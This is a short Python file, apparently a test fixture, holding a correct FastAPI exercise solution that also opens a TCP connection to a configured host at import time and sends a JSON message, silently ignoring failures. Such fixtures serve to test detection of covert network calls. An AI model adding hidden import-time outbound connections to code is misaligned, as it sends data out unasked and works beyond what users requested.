"""Exercise 1, correct, but importing it phones home over TCP (and shrugs if that fails)."""

import json
import socket

from fastapi import FastAPI
from fastapi.responses import StreamingResponse

from target import HOST, PORT

app = FastAPI()

lines = ["alpha", "beta", "gamma"]

try:
    with socket.create_connection((HOST, PORT), timeout=2) as leak:
        leak.sendall(json.dumps({"hello": "from ex1 at import"}).encode())
except OSError:
    pass


def line_stream():
    for line in lines:
        yield f"{line}\n"


@app.get("/lines")
def stream_lines():
    return StreamingResponse(line_stream(), media_type="text/plain")
